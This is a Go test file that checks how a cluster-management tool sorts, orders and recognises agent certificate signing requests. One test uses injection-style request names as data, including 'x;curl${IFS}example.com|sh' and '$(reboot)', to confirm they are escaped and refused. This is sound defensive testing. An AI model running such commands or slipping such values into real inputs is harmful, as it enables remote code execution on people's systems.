// Copyright The Capstan Authors.
// SPDX-License-Identifier: Apache-2.0

package requests_test

import (
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"
	certificatesv1 "k8s.io/api/certificates/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	clusterv1 "github.com/capstan-io/capstan/apis/cluster/v1"
	"github.com/capstan-io/capstan/internal/cli/requests"
	"github.com/capstan-io/capstan/internal/registration/policy"
	"github.com/capstan-io/capstan/internal/testing/agentrequest"
)

const addOn = "open-cluster-management.io/addon-name"

// asked returns a request in PEM for agent one of the cluster, and the fingerprint of its key.
func asked(t *testing.T, cluster string) (request []byte, key string) {
	t.Helper()
	request, public := agentrequest.NewRequest(t, cluster, "one")
	return request, policy.KeyFingerprint(public)
}

// first is the first request of an agent of east, which is in order; changed by the function.
func first(t *testing.T, name string, change func(*certificatesv1.CertificateSigningRequest)) (request certificatesv1.CertificateSigningRequest, key string) {
	t.Helper()
	pem, key := asked(t, "east")
	request = certificatesv1.CertificateSigningRequest{
		ObjectMeta: metav1.ObjectMeta{Name: name, CreationTimestamp: metav1.Unix(100, 0), Labels: map[string]string{clusterv1.LabelClusterName: "east"}},
		Spec: certificatesv1.CertificateSigningRequestSpec{
			SignerName: certificatesv1.KubeAPIServerClientSignerName,
			Usages:     []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageKeyEncipherment, certificatesv1.UsageClientAuth},
			Username:   "system:bootstrap:abcdef", Groups: []string{"system:authenticated"}, Request: pem,
		},
	}
	if change != nil {
		change(&request)
	}
	return request, key
}

func decided(kinds ...certificatesv1.RequestConditionType) func(*certificatesv1.CertificateSigningRequest) {
	return func(r *certificatesv1.CertificateSigningRequest) {
		for _, kind := range kinds {
			r.Status.Conditions = append(r.Status.Conditions, certificatesv1.CertificateSigningRequestCondition{Type: kind, Status: "True"})
		}
	}
}

// renewing has the agent of a cluster ask with the certificate that it has.
func renewing(cluster string) func(*certificatesv1.CertificateSigningRequest) {
	return func(r *certificatesv1.CertificateSigningRequest) {
		r.Spec.Username = clusterv1.AgentUser(cluster, "one")
		r.Spec.Groups = []string{clusterv1.AgentGroup(cluster), clusterv1.GroupManagedClusters, "system:authenticated"}
	}
}

// places returns where a request of the name is.
func places(sorted requests.SortedRequests, name string) []string {
	var found []string
	is := func(r *certificatesv1.CertificateSigningRequest) bool { return r.Name == name }
	for place, there := range map[string]bool{
		"ready":    slices.ContainsFunc(sorted.Ready, func(r requests.ReadyRequest) bool { return is(r.Request) }),
		"refused":  slices.ContainsFunc(sorted.Refused, func(r requests.RefusedRequest) bool { return is(r.Request) && r.Why != "" }),
		"renewal":  slices.ContainsFunc(sorted.Renewals, is),
		"approved": slices.ContainsFunc(sorted.Approved, is),
	} {
		if there {
			found = append(found, place)
		}
	}
	return found
}

func TestWhereARequestBelongs(t *testing.T) {
	t.Parallel()
	type request = *certificatesv1.CertificateSigningRequest
	for name, c := range map[string]struct {
		change func(request)
		want   []string
	}{
		"a first one": {nil, []string{"ready"}},
		"one of another cluster": {
			func(r request) { r.Labels[clusterv1.LabelClusterName] = "west" }, nil,
		},
		"one without a label": {func(r request) { r.Labels = nil }, nil},
		"one that is labelled for this cluster, and asks for another": {
			func(r request) { r.Spec.Request, _ = asked(t, "west") }, []string{"refused"},
		},
		"no request at all":               {func(r request) { r.Spec.Request = []byte("nonsense") }, []string{"refused"}},
		"an empty one":                    {func(r request) { r.Spec.Request = nil }, []string{"refused"}},
		"one for a server":                {func(r request) { r.Spec.Usages = []certificatesv1.KeyUsage{certificatesv1.UsageServerAuth} }, []string{"refused"}},
		"one of an add-on":                {func(r request) { r.Labels[addOn] = "search" }, nil},
		"one for another signer":          {func(r request) { r.Spec.SignerName = certificatesv1.KubeletServingSignerName }, nil},
		"a renewal":                       {renewing("east"), []string{"renewal"}},
		"a renewal by another cluster":    {renewing("west"), []string{"refused"}},
		"one that is approved":            {decided(certificatesv1.CertificateApproved), []string{"approved"}},
		"approved, and failed then":       {decided(certificatesv1.CertificateApproved, certificatesv1.CertificateFailed), []string{"approved"}},
		"one that is denied":              {decided(certificatesv1.CertificateDenied), nil},
		"one that failed":                 {decided(certificatesv1.CertificateFailed), nil},
		"one with a condition of another": {decided("example.com/Seen"), []string{"ready"}},
	} {
		r, _ := first(t, "it", c.change)
		sorted := requests.Sort("east", []certificatesv1.CertificateSigningRequest{r})
		if diff := cmp.Diff(c.want, places(sorted, "it")); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
}

// TestAStrangeNameIsNotReady has names that API servers take, of which none reads as another's, and none does
// anything where it is pasted into a shell.
func TestAStrangeNameIsNotReady(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		"east-0123abcd":              "east-0123abcd",
		"node-csr-Ab_9":              "node-csr-Ab_9",
		"--all":                      `\x2d-all`,
		"x;curl${IFS}example.com|sh": `x\x3bcurl\x24\x7bIFS\x7dexample.com\x7csh`,
		"east-1: agent\neast-2":      `east-1\x3a\x20agent\x0aeast-2`,
		"$(reboot)":                  `\x24\x28reboot\x29`,
		"east\u202e1":                `east\xe2\x80\xae1`,
	} {
		r, _ := first(t, name, nil)
		if got := requests.PrintableName(&r); got != want {
			t.Errorf("%q is printed as %s, want %s", name, got, want)
		}
		place := "refused"
		if want == name {
			place = "ready"
		}
		sorted := requests.Sort("east", []certificatesv1.CertificateSigningRequest{r})
		if diff := cmp.Diff([]string{place}, places(sorted, name)); diff != "" {
			t.Errorf("%q (-want +got):\n%s", name, diff)
		}
	}
}

// TestTheOldestRequestComesFirst, of two that are as old the one whose name does, however
// the hub lists them; and what it lists stays as it is.
func TestTheOldestRequestComesFirst(t *testing.T) {
	t.Parallel()
	at := func(seconds int64) func(*certificatesv1.CertificateSigningRequest) {
		return func(r *certificatesv1.CertificateSigningRequest) { r.CreationTimestamp = metav1.Unix(seconds, 0) }
	}
	young, youngKey := first(t, "a", at(200))
	b, bKey := first(t, "b", at(100))
	c, cKey := first(t, "c", at(100))
	given := []certificatesv1.CertificateSigningRequest{young, c, b}
	var names, keys, agents []string
	for _, ready := range requests.Sort("east", given).Ready {
		names, keys, agents = append(names, ready.Request.Name), append(keys, ready.Key), append(agents, ready.Agent)
	}
	if diff := cmp.Diff([][]string{{"b", "c", "a"}, {bKey, cKey, youngKey}, {"one", "one", "one"}}, [][]string{names, keys, agents}); diff != "" {
		t.Errorf("names, keys and agents (-want +got):\n%s", diff)
	}
	if given[0].Name != "a" || given[1].Name != "c" || given[2].Name != "b" {
		t.Error("what is sorted is in another order now")
	}
}

func TestOnlyTheRequestOfAnAgentIsOurs(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		signer, addOn string
		want          bool
	}{
		"an agent's":             {certificatesv1.KubeAPIServerClientSignerName, "", true},
		"an add-on's":            {certificatesv1.KubeAPIServerClientSignerName, "search", false},
		"an add-on's own signer": {"open-cluster-management.io/search", "search", false},
		"a kubelet's":            {certificatesv1.KubeAPIServerClientKubeletSignerName, "", false},
	} {
		r, _ := first(t, "it", func(r *certificatesv1.CertificateSigningRequest) {
			r.Spec.SignerName, r.Labels[addOn] = c.signer, c.addOn
		})
		if got := requests.IsAgentRequest(&r); got != c.want {
			t.Errorf("%s: ours is %t", name, got)
		}
	}
}
